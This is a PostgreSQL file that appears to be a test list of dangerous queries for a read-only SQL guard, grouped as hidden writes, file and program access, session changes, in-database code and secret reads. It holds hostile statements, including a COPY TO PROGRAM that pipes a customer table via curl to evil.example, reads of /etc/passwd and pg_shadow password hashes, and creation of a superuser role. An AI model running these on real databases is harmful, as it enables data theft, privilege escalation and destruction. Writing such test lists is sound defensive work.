-- Changes that hide in a query
WITH gone AS (DELETE FROM customers RETURNING *) SELECT * FROM gone
WITH a AS (WITH b AS (UPDATE customers SET name = 'x' RETURNING id) SELECT id FROM b) SELECT * FROM a
SELECT * INTO backup FROM customers
SELECT * INTO TEMP backup FROM customers
SELECT 1 INTO UNLOGGED backup
EXPLAIN ANALYZE DELETE FROM customers
EXPLAIN (ANALYZE, VERBOSE) UPDATE customers SET name = 'x'
EXPLAIN (ANALYZE true, ANALYZE false) DELETE FROM customers
EXPLAIN (FORMAT JSON, ANALYZE 1) DELETE FROM customers
EXPLAIN ANALYZE CREATE TABLE copy AS SELECT * FROM customers
EXPLAIN ANALYZE EXECUTE p
MERGE INTO customers c USING (SELECT 1) s ON true WHEN MATCHED THEN DELETE
MERGE INTO customers c USING orders o ON 1 = 1 WHEN MATCHED THEN UPDATE SET name = 'x'
DELETE FROM customers USING orders
DELETE FROM customers USING orders o WHERE o.id = 1
UPDATE customers SET name = 'x' FROM orders o WHERE o.id = 1
DELETE FROM customers WHERE true
DELETE FROM customers WHERE 't'::bool
DELETE FROM customers WHERE id IS NOT DISTINCT FROM id
DELETE FROM customers WHERE now() > '2020-01-01'
DELETE FROM customers WHERE random() < 2
DELETE FROM customers WHERE name ILIKE '%'
DELETE FROM customers WHERE true IS NOT FALSE
TRUNCATE customers, orders CASCADE
-- Programs, files and other servers
COPY customers TO PROGRAM 'curl -d @- https://evil.example'
COPY customers FROM PROGRAM 'cat /etc/passwd'
COPY customers TO '/tmp/customers.csv'
COPY customers FROM '/etc/passwd'
COPY (SELECT * FROM customers) TO '/tmp/x'
COPY customers TO STDOUT
COPY (DELETE FROM customers RETURNING *) TO STDOUT
SELECT pg_read_file('/etc/passwd')
SELECT pg_catalog.pg_read_file('/etc/passwd')
SELECT PG_READ_FILE('/etc/passwd')
SELECT "pg_read_file"('/etc/passwd')
SELECT U&"pg_read_fil\0065"('/etc/passwd')
SELECT * FROM pg_read_file('/etc/passwd') AS f
SELECT 1 WHERE pg_read_file('/etc/passwd') LIKE 'root%'
SELECT 1 ORDER BY pg_read_file('/etc/passwd')
SELECT CASE WHEN pg_read_file('/etc/passwd') IS NULL THEN 1 END
SELECT pg_read_binary_file('postgresql.conf')
SELECT pg_ls_dir('.')
SELECT * FROM pg_ls_dir('.')
SELECT * FROM pg_ls_waldir()
SELECT * FROM pg_ls_logdir()
SELECT pg_stat_file('postgresql.conf')
SELECT lo_import('/etc/passwd')
SELECT lo_export(1, '/tmp/x')
SELECT lo_get(1)
SELECT lo_from_bytea(0, 'x')
SELECT * FROM pg_hba_file_rules()
SELECT pg_current_logfile()
SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(a int)
SELECT dblink_connect('host=evil password=x')
SELECT dblink_exec('host=evil', 'DROP TABLE t')
SELECT query_to_xml('SELECT * FROM customers', true, true, '')
SELECT table_to_xml('customers', true, true, '')
SELECT database_to_xml(true, true, '')
SELECT ts_stat('SELECT to_tsvector(body) FROM notes')
SELECT get_raw_page('customers', 0)
SELECT * FROM heap_page_items(get_raw_page('customers', 0))
SELECT * FROM pg_logical_slot_peek_changes('s', NULL, NULL)
SELECT * FROM crosstab('SELECT 1, 2, 3') AS t(a int, b int)
-- Settings, sessions, locks
SELECT set_config('session_replication_role', 'replica', false)
SELECT set_config('role', 'postgres', false)
SET ROLE postgres
SET SESSION AUTHORIZATION postgres
SET LOCAL row_security = off
SET session_replication_role = replica
SET TRANSACTION READ WRITE
RESET ALL
RESET ROLE
DISCARD ALL
ALTER SYSTEM SET shared_preload_libraries = 'evil'
ALTER ROLE postgres PASSWORD 'x'
ALTER DATABASE postgres SET search_path = evil
SELECT pg_terminate_backend(pid) FROM pg_class, generate_series(1, 9) AS pid
SELECT pg_cancel_backend(1)
SELECT pg_reload_conf()
SELECT pg_rotate_logfile()
SELECT pg_sleep(60)
SELECT pg_catalog.pg_sleep(60)
SELECT pg_sleep_for('1 hour')
SELECT count(*) FROM customers WHERE pg_sleep(1) IS NOT NULL
SELECT pg_advisory_lock(1)
SELECT pg_try_advisory_lock(1)
SELECT pg_notify('a', 'b')
LISTEN a
NOTIFY a, 'b'
UNLISTEN *
LOCK TABLE customers IN ACCESS EXCLUSIVE MODE
-- Programs in the database
DO $$ BEGIN DELETE FROM customers; END $$
DO 'BEGIN PERFORM pg_sleep(60); END'
DO LANGUAGE plpgsql $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM customers; SELECT 1'
CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$
CREATE TRIGGER g AFTER INSERT ON notes EXECUTE FUNCTION f()
CREATE RULE r AS ON INSERT TO notes DO INSTEAD DELETE FROM customers
CREATE EXTENSION dblink
CREATE EXTENSION plpython3u
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw
CREATE USER MAPPING FOR PUBLIC SERVER s
CREATE FOREIGN TABLE f (a int) SERVER s
CREATE ROLE mallory SUPERUSER LOGIN
CREATE OPERATOR public.= (LEFTARG = int, RIGHTARG = int, FUNCTION = f)
CREATE CAST (int AS text) WITH FUNCTION f(int)
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE PUBLICATION p FOR ALL TABLES
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
IMPORT FOREIGN SCHEMA public FROM SERVER s INTO public
LOAD 'evil'
CALL p()
PREPARE p AS DELETE FROM customers
EXECUTE p
DEALLOCATE ALL
DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers
FETCH ALL FROM c
MOVE c
CLOSE c
SECURITY LABEL ON TABLE customers IS 'x'
COMMENT ON TABLE customers IS 'x'
REASSIGN OWNED BY alice TO mallory
DROP OWNED BY alice
VACUUM FULL customers
ANALYZE customers
CLUSTER customers
REINDEX TABLE customers
CHECKPOINT
REFRESH MATERIALIZED VIEW m
SET CONSTRAINTS ALL DEFERRED
PREPARE TRANSACTION 'x'
-- Secrets of the server
SELECT rolname, rolpassword FROM pg_authid
SELECT * FROM pg_catalog.pg_shadow
SELECT usename, passwd FROM "pg_shadow"
SELECT (SELECT passwd FROM pg_shadow LIMIT 1) AS x
SELECT * FROM pg_user_mappings
SELECT * FROM pg_user_mapping
SELECT * FROM information_schema.user_mapping_options
SELECT * FROM information_schema.foreign_server_options
SELECT * FROM pg_hba_file_rules
SELECT * FROM pg_file_settings
SELECT * FROM pg_settings
SELECT setting FROM pg_settings WHERE name = 'primary_conninfo'
SELECT * FROM pg_db_role_setting
SELECT subconninfo FROM pg_subscription
SELECT most_common_vals FROM pg_stats WHERE tablename = 'customers'
SELECT stavalues1 FROM pg_statistic
SELECT * FROM pg_stats_ext
SELECT query FROM pg_stat_activity
SELECT query FROM pg_stat_statements
SELECT data FROM pg_largeobject
SELECT chunk_data FROM pg_toast.pg_toast_16384
WITH s AS (SELECT * FROM pg_stats) SELECT * FROM s
SELECT current_setting('app.jwt_secret')
SELECT current_setting('primary_' || 'conninfo')
SHOW ALL
SHOW primary_conninfo
SHOW app.jwt_secret
